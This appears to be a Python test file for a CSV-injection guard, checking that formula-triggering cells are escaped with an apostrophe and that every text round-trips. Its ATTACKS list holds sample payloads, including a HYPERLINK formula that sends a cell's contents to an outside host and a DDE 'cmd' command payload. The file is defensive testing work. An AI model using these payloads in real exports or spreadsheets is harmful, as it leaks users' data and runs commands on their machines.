# Copyright 2026 The Distribution Integration Suite authors
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""No cell is a formula, and every text comes back as it was."""

import csv
import io

import pytest
from engine.csv_guard import TRIGGERS, guard, unguard
from hypothesis import given
from hypothesis import strategies as st

ATTACKS = [
    '=HYPERLINK("http://example.org/?x="&A1,"Error")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_becomes_text(text):
    assert guard(text) == "'" + text


@pytest.mark.parametrize("text", ["", "ABC-1", "0012", "a=b", "it's", " =1"])
def test_what_is_harmless_stays(text):
    assert guard(text) == text


def test_a_mark_typed_by_a_person_stays():
    assert unguard("'tis") == "'tis"


@given(st.text())
def test_every_text_comes_back(text):
    assert unguard(guard(text)) == text


@given(st.lists(st.text(st.characters(exclude_characters="\0")), min_size=1))
def test_no_cell_of_a_file_begins_a_formula(texts):
    out = io.StringIO(newline="")
    csv.writer(out).writerow([guard(text) for text in texts])
    [cells] = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert not any(cell.startswith(TRIGGERS) for cell in cells)
    assert [unguard(cell) for cell in cells] == texts
